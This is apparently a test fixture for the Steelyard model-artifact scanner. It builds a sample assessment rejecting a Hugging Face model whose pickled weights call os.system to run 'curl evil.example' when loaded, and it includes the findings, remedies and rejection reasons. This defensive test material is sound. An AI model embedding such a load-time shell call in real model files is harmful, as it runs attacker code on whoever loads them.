# SPDX-License-Identifier: Apache-2.0
"""A model that runs a shell command when it is loaded, and what its scan says."""

from __future__ import annotations

import msgspec

from steelyard.kernel.assessment import (
    Assessment,
    CoverageGap,
    CoverageSummary,
    Decision,
    LocatedFinding,
    Model,
    Outcome,
    Reason,
    Review,
    Subject,
)
from steelyard.kernel.digest import sha256_hex
from steelyard.kernel.finding import Coverage, FileReport, Finding, Severity, Verdict
from steelyard.kernel.license import (
    LicenseSummary,
)
from tests.reporting.samples.parts import (
    PRODUCT,
    RULES,
    component,
    trace,
)
from tests.reporting.samples.passing import approved
from tests.reporting.samples.review import review_deep


def rejected() -> Assessment:
    base = approved()
    files = (
        component("README.md", "markdown", 812),
        component("config.json", "json", 612),
        component("pytorch_model.bin", "torch-zip", 440_473_133, Verdict.MALICIOUS),
        component("training_args.bin", "pickle", 4_411, Verdict.SUSPICIOUS),
        component("blob.dat", "unknown", 1_048_576, Verdict.UNREADABLE, Coverage.NONE),
    )
    call = "byte 57 REDUCE calls os.system (imported at byte 2 by GLOBAL) with ('curl evil.example'"
    return msgspec.structs.replace(
        base,
        subject=Subject(
            purl="pkg:huggingface/quick-finetunes/bert-sentiment-pro@main",
            name="quick-finetunes/bert-sentiment-pro",
            commit=None,
            manifest_sha256=sha256_hex(b"rejected"),
            files=len(files),
            size=sum(file.size for file in files),
        ),
        use_case=PRODUCT,
        environment="production",
        risk=review_deep().risk,
        license=LicenseSummary(),
        findings=(
            LocatedFinding(
                rule="pickle.dangerous-call",
                severity=Severity.CRITICAL,
                path="pytorch_model.bin",
                message="Loading this file runs a shell command.",
                location="member archive/data.pkl, byte 57",
                evidence=call,
                remedy="Do not load it. Report it to the publisher and use another model.",
            ),
            LocatedFinding(
                rule="pickle.unknown-global",
                severity=Severity.HIGH,
                path="training_args.bin",
                message="Loading imports a callable that is not known to be harmless.",
                location="byte 2",
                evidence="transformers.training_args.TrainingArguments",
                remedy="Leave this file out; inference does not need it.",
            ),
            LocatedFinding(
                rule="tree.weights-differ",
                severity=Severity.LOW,
                message="Two weight files hold different tensors.",
            ),
        ),
        coverage=CoverageSummary(
            level="none",
            files=5,
            full=4,
            partial=0,
            none=1,
            gaps=(
                CoverageGap(
                    path="blob.dat", level="none", reason="The format is not known to Steelyard."
                ),
            ),
        ),
        controls=(),
        review=Review(track="deep", decided_by="sign-offs"),
        decision=Decision(
            outcome=Outcome.REJECTED,
            reasons=(
                Reason(
                    rule="no-code-execution-on-load",
                    effect="reject",
                    message="The weights run code when they are loaded, and that code is hostile.",
                    facts={"scan.worst": "malicious", "artifacts.executes_on_load": True},
                    remedy="Choose a revision that ships safetensors.",
                    evidence=(f"pytorch_model.bin, member archive/data.pkl: {call}",),
                    frameworks=("OWASP-LLM-2025:LLM03", "ATLAS:AML.T0010"),
                ),
                Reason(
                    rule="license-known",
                    effect="reject",
                    message="No license was found, so nothing is permitted.",
                    facts={"license.category": "unknown"},
                    remedy="Ask the publisher to name a license.",
                ),
                Reason(
                    rule="card-complete",
                    effect="warn",
                    message="There is no model card.",
                ),
            ),
        ),
        model=Model(publisher="quick-finetunes", formats=("torch-zip",), parameters=109_483_778),
        card=None,
        verdict=Verdict.MALICIOUS,
        files=files,
        rules=(
            trace("no-code-execution-on-load", "true", "false",
                  facts={"scan.worst": "malicious", "artifacts.executes_on_load": True}),
            trace("license-known", "true", "false"),
            trace("card-complete", "true", "false", effect="warn"),
            *RULES[2:],
        ),
        facts=base.facts | {"scan": {"worst": "malicious", "executes_on_load": True}},
    )  # fmt: skip


def scan_files() -> tuple[FileReport, ...]:
    """The files of :func:`rejected` as the scanner reports them."""
    sample = rejected()
    gaps = {gap.path: gap.reason for gap in sample.coverage.gaps}
    return tuple(
        FileReport(
            path=file.path,
            format=file.format,
            size=file.size,
            sha256=file.sha256,
            verdict=file.verdict,
            coverage=Coverage(file.coverage),
            coverage_reason=gaps.get(file.path, ""),
            findings=tuple(
                Finding(
                    rule=finding.rule,
                    severity=finding.severity,
                    message=finding.message,
                    location=finding.location,
                    evidence=finding.evidence,
                    remedy=finding.remedy,
                )
                for finding in sample.findings
                if finding.path == file.path
            ),
        )
        for file in sample.files
    )
